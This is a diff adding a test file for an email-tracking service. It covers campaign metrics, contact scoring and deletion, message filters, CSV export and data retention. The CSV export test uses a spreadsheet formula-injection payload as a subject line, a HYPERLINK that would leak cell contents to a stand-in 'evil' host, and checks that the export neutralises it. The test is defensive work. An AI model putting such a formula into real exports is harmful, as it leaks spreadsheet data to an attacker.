@@ -1,0 +1,303 @@
+// Campaigns, contacts with engagement, the message list, CSV export and their account scoping (docs/protocol.md §12-14).
+import { createScheduledController, env } from "cloudflare:test";
+import { describe, expect, it } from "vitest";
+import type { CampaignDetail, CampaignsResponse, ContactDetail, ContactsResponse, ErrorResponse, MessagesResponse } from "../../shared/api";
+import worker from "../src/index";
+import { call, clickLink, createAccount, GMAIL_PROXY_UA, openPixel, sentMessage, type TestAccount, waitForEvents } from "./helpers";
+
+const HOUR = 3_600_000;
+const ago = (ms: number) => new Date(Date.now() - ms).toISOString();
+
+function reply(account: TestAccount, threadId: string, from: string, gmailMessageId: string) {
+  return account.json("POST", "/api/signals", { signals: [{ kind: "reply", threadId, gmailMessageId, at: ago(0), from }] });
+}
+
+describe("campaigns", () => {
+  it("computes rates over sent from human events only, and ranks links by counted clicks", async () => {
+    const account = await createAccount();
+    const url = "https://example.com/pricing";
+    const other = "https://example.com/blog";
+    const links = [
+      { index: 0, url },
+      { index: 1, url: other },
+    ];
+    const a = await sentMessage(account, { campaign: " Q4 launch ", threadId: "t-a", links, recipients: [{ email: "a@acme.example" }] });
+    const b = await sentMessage(account, { campaign: "Q4 launch", threadId: "t-b", links, recipients: [{ email: "b@acme.example" }] });
+    const c = await sentMessage(account, { campaign: "Q4 launch", threadId: "t-c", links, recipients: [{ email: "c@acme.example" }] });
+    const d = await sentMessage(account, { campaign: "Q4 launch", threadId: "t-d", links, recipients: [{ email: "d@acme.example" }] });
+    await sentMessage(account, { campaign: "Other", threadId: "t-e" });
+    await openPixel(a.id); // human
+    await openPixel(b.id, { "user-agent": GMAIL_PROXY_UA }); // counted
+    await openPixel(c.id, { "user-agent": "Mozilla/5.0" }); // Apple prefetch: not counted
+    await openPixel(d.id, { "user-agent": "curl/8.0" }); // scanner: not counted
+    await clickLink(account, a.id, 0, url);
+    await clickLink(account, b.id, 0, url);
+    await clickLink(account, a.id, 1, other, { method: "GET", headers: { "user-agent": "python-requests/2.0" } }); // scanner
+    await waitForEvents(a.id, 3);
+    await waitForEvents(b.id, 2);
+    await waitForEvents(c.id, 1);
+    await waitForEvents(d.id, 1);
+    await reply(account, "t-a", "a@acme.example", "msg-f:ra");
+    await account.json("POST", "/api/signals", {
+      signals: [
+        {
+          kind: "bounce",
+          threadId: "t-d",
+          gmailMessageId: "msg-f:bd",
+          at: ago(0),
+          bounce: { kind: "hard", recipients: ["d@acme.example"] },
+        },
+      ],
+    });
+    await call(`/u/${c.id}`, { method: "POST" });
+
+    const detail = await account.json<CampaignDetail>("GET", `/api/campaigns/${encodeURIComponent("Q4 launch")}`);
+    expect(detail.status).toBe(200);
+    expect(detail.body).toMatchObject({
+      name: "Q4 launch",
+      sent: 4,
+      opened: 2,
+      clicked: 2,
+      replied: 1,
+      bounced: 1,
+      unsubscribed: 1,
+      openRate: 0.5,
+      clickRate: 0.5,
+      replyRate: 0.25,
+      bounceRate: 0.25,
+      unsubscribeRate: 0.25,
+    });
+    expect(detail.body.topLinks).toEqual([{ url, clicks: 2, uniqueClicks: 2 }]);
+    const list = await account.json<CampaignsResponse>("GET", "/api/campaigns?limit=1");
+    expect(list.body.campaigns).toHaveLength(1);
+    expect(list.body.nextCursor).toBeTruthy();
+    const rest = await account.json<CampaignsResponse>("GET", `/api/campaigns?limit=1&cursor=${list.body.nextCursor}`);
+    expect([...list.body.campaigns, ...rest.body.campaigns].map((x) => x.name).sort()).toEqual(["Other", "Q4 launch"]);
+    expect(rest.body.nextCursor).toBeNull();
+    expect([...list.body.campaigns, ...rest.body.campaigns].find((x) => x.name === "Other")).toMatchObject({ sent: 1, openRate: 0 });
+
+    const stranger = await createAccount();
+    expect((await stranger.json("GET", `/api/campaigns/${encodeURIComponent("Q4 launch")}`)).status).toBe(404);
+    expect((await stranger.json<CampaignsResponse>("GET", "/api/campaigns")).body.campaigns).toEqual([]);
+    expect((await account.json<ErrorResponse>("GET", "/api/campaigns?limit=0")).status).toBe(400);
+    expect((await account.json<ErrorResponse>("GET", "/api/campaigns?cursor=!!")).status).toBe(400);
+    expect((await account.json<ErrorResponse>("GET", "/api/campaigns?cursor=abc")).status).toBe(400);
+    expect((await account.json("GET", `/api/campaigns/${"x".repeat(101)}`)).status).toBe(400);
+  });
+});
+
+describe("contacts", () => {
+  async function setup() {
+    const account = await createAccount();
+    const url = "https://example.com/x";
+    const hot = await sentMessage(account, {
+      campaign: "Hot",
+      recipients: [{ email: "Hot@acme.example", name: "Hot" }],
+      links: [{ index: 0, url }],
+    });
+    const shared = await sentMessage(account, {
+      threadId: "t-shared",
+      recipients: [{ email: "hot@acme.example" }, { email: "warm@acme.example" }],
+      subject: "Team intro",
+    });
+    await sentMessage(account, { recipients: [{ email: "cold@acme.example" }] });
+    await openPixel(hot.id);
+    await clickLink(account, hot.id, 0, url);
+    await openPixel(shared.id);
+    await waitForEvents(hot.id, 2);
+    await waitForEvents(shared.id, 1);
+    return { account, hot, shared };
+  }
+
+  it("lists contacts by score and by last activity, filters and pages", async () => {
+    const { account } = await setup();
+    const byScore = await account.json<ContactsResponse>("GET", "/api/contacts");
+    expect(byScore.status).toBe(200);
+    expect(byScore.body.contacts.map((c) => c.email)).toEqual(["hot@acme.example", "warm@acme.example", "cold@acme.example"]);
+    const [hot, warm, cold] = byScore.body.contacts;
+    expect(hot?.score).toBeCloseTo(4.5, 1); // open 1 + click 3 on its own email, half of one open on the shared one
+    expect(warm?.score).toBeCloseTo(0.5, 1);
+    expect(cold).toMatchObject({ score: 0, lastActivityAt: null, sent: 1 });
+    expect(hot).toMatchObject({ name: "Hot", sent: 2, suppressed: false, optedOut: false });
+    const byActivity = await account.json<ContactsResponse>("GET", "/api/contacts?sort=lastActivity");
+    expect(byActivity.body.contacts.at(-1)?.email).toBe("cold@acme.example");
+    const filtered = await account.json<ContactsResponse>("GET", "/api/contacts?campaign=Hot");
+    expect(filtered.body.contacts.map((c) => c.email)).toEqual(["hot@acme.example"]);
+    const minScore = await account.json<ContactsResponse>("GET", "/api/contacts?minScore=0.4");
+    expect(minScore.body.contacts.map((c) => c.email)).toEqual(["hot@acme.example", "warm@acme.example"]);
+    const seen: string[] = [];
+    let cursor: string | null = null;
+    do {
+      const page: { body: ContactsResponse } = await account.json<ContactsResponse>(
+        "GET",
+        `/api/contacts?limit=1${cursor ? `&cursor=${cursor}` : ""}`,
+      );
+      seen.push(...page.body.contacts.map((c) => c.email));
+      cursor = page.body.nextCursor;
+    } while (cursor);
+    expect(seen).toEqual(["hot@acme.example", "warm@acme.example", "cold@acme.example"]);
+    for (const query of ["sort=name", "limit=500", "minScore=-1", "cursor=%25%25", "cursor=WzFd"]) {
+      expect((await account.json("GET", `/api/contacts?${query}`)).status, query).toBe(400);
+    }
+  });
+
+  it("shows a timeline across every email, marking activity on shared emails", async () => {
+    const { account, hot, shared } = await setup();
+    await reply(account, "t-shared", "warm@acme.example", "msg-f:w1");
+    const res = await account.json<ContactDetail>("GET", `/api/contacts/${encodeURIComponent("HOT@acme.example")}`);
+    expect(res.status).toBe(200);
+    expect(res.body.contact.email).toBe("hot@acme.example");
+    const kinds = res.body.timeline.map((t) => `${t.kind}:${t.messageId === hot.id ? "own" : "shared"}:${t.shared}`).sort();
+    // warm's reply on the shared email is warm's, not hot's.
+    expect(kinds).toEqual(["click:own:false", "open:own:false", "open:shared:true", "sent:own:false", "sent:shared:true"]);
+    expect(res.body.timeline.find((t) => t.kind === "click")?.url).toBe("https://example.com/x");
+    const times = res.body.timeline.map((t) => t.at);
+    expect([...times].sort().reverse()).toEqual(times);
+    const warm = await account.json<ContactDetail>("GET", "/api/contacts/warm@acme.example");
+    expect(warm.body.timeline.find((t) => t.kind === "reply")).toMatchObject({
+      messageId: shared.id,
+      shared: false,
+      subject: "Team intro",
+    });
+    const page = await account.json<ContactDetail>("GET", "/api/contacts/hot@acme.example?limit=2");
+    expect(page.body.timeline).toHaveLength(2);
+    const next = await account.json<ContactDetail>("GET", `/api/contacts/hot@acme.example?limit=10&cursor=${page.body.nextCursor}`);
+    expect(next.body.timeline).toHaveLength(3);
+    expect(next.body.nextCursor).toBeNull();
+    expect((await account.json("GET", "/api/contacts/nobody@acme.example")).status).toBe(404);
+    expect((await account.json("GET", "/api/contacts/not-an-address")).status).toBe(400);
+    const stranger = await createAccount();
+    expect((await stranger.json("GET", "/api/contacts/hot@acme.example")).status).toBe(404);
+    expect((await stranger.json("DELETE", "/api/contacts/hot@acme.example")).status).toBe(404);
+    expect((await stranger.json<ContactsResponse>("GET", "/api/contacts")).body.contacts).toEqual([]);
+  });
+
+  it("deleting a contact deletes its emails' events, keeps shared emails' events, and keeps its opt-out", async () => {
+    const { account, hot, shared } = await setup();
+    await reply(account, "t-shared", "hot@acme.example", "msg-f:h1");
+    await call(`/u/${hot.id}`, { method: "POST" });
+    expect((await account.json("DELETE", "/api/contacts/Hot@acme.example")).status).toBe(204);
+    const count = async (sql: string, ...binds: string[]) =>
+      (
+        await env.DB.prepare(sql)
+          .bind(...binds)
+          .first<{ n: number }>()
+      )?.n;
+    expect(await count("SELECT count(*) AS n FROM events WHERE message_id = ?", hot.id)).toBe(0);
+    expect(await count("SELECT count(*) AS n FROM events WHERE message_id = ?", shared.id)).toBe(1);
+    const mine = account.accountId;
+    expect(await count("SELECT count(*) AS n FROM signals WHERE account_id = ? AND email = ?", mine, "hot@acme.example")).toBe(0);
+    expect(await count("SELECT count(*) AS n FROM message_recipients WHERE account_id = ? AND email = ?", mine, "hot@acme.example")).toBe(
+      0,
+    );
+    expect(
+      await count("SELECT count(*) AS n FROM messages WHERE account_id = ? AND lower(recipients) LIKE ?", mine, "%hot@acme.example%"),
+    ).toBe(0);
+    expect((await account.json("GET", "/api/contacts/hot@acme.example")).status).toBe(404);
+    expect((await account.json("GET", `/api/messages/${hot.id}`)).status).toBe(404);
+    const checked = await account.json<{ contacts: { optedOut: boolean }[] }>("POST", "/api/contacts/check", {
+      emails: ["hot@acme.example"],
+    });
+    expect(checked.body.contacts[0]?.optedOut).toBe(true);
+    expect((await account.json("DELETE", "/api/contacts/hot@acme.example")).status).toBe(404);
+  });
+});
+
+describe("message list", () => {
+  it("lists newest first with campaign, state and text filters, paginated", async () => {
+    const account = await createAccount();
+    const old = await sentMessage(account, { subject: "Old news", sentAt: ago(5 * HOUR), campaign: "C1" });
+    const mid = await sentMessage(account, {
+      subject: "50% off_sale",
+      sentAt: ago(3 * HOUR),
+      recipients: [{ email: "Pat@Globex.example" }],
+    });
+    const fresh = await sentMessage(account, { subject: "Fresh", sentAt: ago(HOUR), campaign: "C1" });
+    await openPixel(mid.id);
+    await waitForEvents(mid.id, 1);
+    const all = await account.json<MessagesResponse>("GET", "/api/messages");
+    expect(all.body.messages.map((m) => m.id)).toEqual([fresh.id, mid.id, old.id]);
+    expect(all.body.messages[1]).toMatchObject({ state: "opened", subject: "50% off_sale", campaign: null });
+    const page1 = await account.json<MessagesResponse>("GET", "/api/messages?limit=2");
+    const page2 = await account.json<MessagesResponse>("GET", `/api/messages?limit=2&cursor=${page1.body.nextCursor}`);
+    expect([...page1.body.messages, ...page2.body.messages].map((m) => m.id)).toEqual([fresh.id, mid.id, old.id]);
+    expect(page2.body.nextCursor).toBeNull();
+    const ids = async (query: string) =>
+      (await account.json<MessagesResponse>("GET", `/api/messages?${query}`)).body.messages.map((m) => m.id);
+    expect(await ids("campaign=C1")).toEqual([fresh.id, old.id]);
+    expect(await ids("state=opened")).toEqual([mid.id]);
+    expect(await ids("state=delivered&limit=1")).toEqual([fresh.id]);
+    expect(await ids("q=globex")).toEqual([mid.id]);
+    expect(await ids("q=%25")).toEqual([mid.id]); // a literal %, not a wildcard
+    expect(await ids("q=f_s")).toEqual([mid.id]);
+    expect(await ids("q=OLD")).toEqual([old.id]);
+    for (const query of ["state=read", "limit=0", "cursor=zz", `q=${"x".repeat(201)}`]) {
+      expect((await account.json("GET", `/api/messages?${query}`)).status, query).toBe(400);
+    }
+    expect((await (await createAccount()).json<MessagesResponse>("GET", "/api/messages")).body.messages).toEqual([]);
+  });
+});
+
+describe("CSV export", () => {
+  it("exports messages, events and contacts as inert, RFC 4180 CSV", async () => {
+    const account = await createAccount();
+    const subject = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const message = await sentMessage(account, {
+      subject,
+      campaign: "+campaign",
+      recipients: [{ email: "a@acme.example", name: '@Ann, "the" buyer' }],
+    });
+    await openPixel(message.id);
+    await waitForEvents(message.id, 1);
+    await reply(account, message.threadId ?? "", "a@acme.example", "msg-f:csv");
+    const get = (path: string) => account.api(path);
+    const messages = await get("/api/export/messages.csv");
+    expect(messages.status).toBe(200);
+    expect(messages.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(messages.headers.get("content-disposition")).toBe('attachment; filename="messages.csv"');
+    const text = await messages.text();
+    const lines = text.split("\r\n");
+    expect(lines[0]).toBe(
+      "id,sent_at,subject,recipients,campaign,thread_id,state,opens,first_open_at,last_open_at,clicks,last_click_at,replies,bounce,unsubscribed",
+    );
+    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
+    expect(lines[1]).toContain(",'+campaign,");
+    expect(lines[1]).toContain(",opened,1,");
+    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)[=+\-@]/);
+    const events = await (await get("/api/export/events.csv")).text();
+    expect(events.split("\r\n")[0]).toBe(
+      "at,message_id,subject,campaign,kind,label,counted,link_index,link_url,email,bounce_kind,country,region,city,client,device",
+    );
+    expect(events).toContain(",open,human,true,");
+    expect(events).toContain(",reply,,true,,,a@acme.example,");
+    expect(events).not.toMatch(/(^|,)=HYPERLINK/m);
+    const contacts = await (await get("/api/export/contacts.csv")).text();
+    expect(contacts.split("\r\n")[1]).toMatch(/^a@acme\.example,"'@Ann, ""the"" buyer",\d+(\.\d+)?,/);
+    const stranger = await createAccount();
+    const empty = await (await stranger.api("/api/export/messages.csv")).text();
+    expect(empty.split("\r\n").filter(Boolean)).toHaveLength(1);
+    expect((await call("/api/export/events.csv")).status).toBe(401);
+  });
+});
+
+describe("retention", () => {
+  it("the daily purge deletes replies and bounces past the account's retention, keeping the suppression list", async () => {
+    const account = await createAccount();
+    await sentMessage(account, { threadId: "t-ret", recipients: [{ email: "gone@acme.example" }], sentAt: ago(100 * 24 * HOUR) });
+    await account.json("POST", "/api/signals", {
+      signals: [
+        { kind: "reply", threadId: "t-ret", gmailMessageId: "msg-f:old", at: ago(95 * 24 * HOUR), from: "gone@acme.example" },
+        { kind: "bounce", threadId: "t-ret", gmailMessageId: "msg-f:new", at: ago(HOUR), bounce: { kind: "hard", recipients: [] } },
+      ],
+    });
+    await worker.scheduled(createScheduledController({ scheduledTime: Date.now(), cron: "23 3 * * *" }), env);
+    const { results } = await env.DB.prepare("SELECT source_id FROM signals WHERE account_id = ?")
+      .bind(account.accountId)
+      .all<{ source_id: string }>();
+    expect(results.map((r) => r.source_id)).toEqual(["msg-f:new"]);
+    const checked = await account.json<{ contacts: { suppressed: boolean }[] }>("POST", "/api/contacts/check", {
+      emails: ["gone@acme.example"],
+    });
+    expect(checked.body.contacts[0]?.suppressed).toBe(true);
+  });
+});
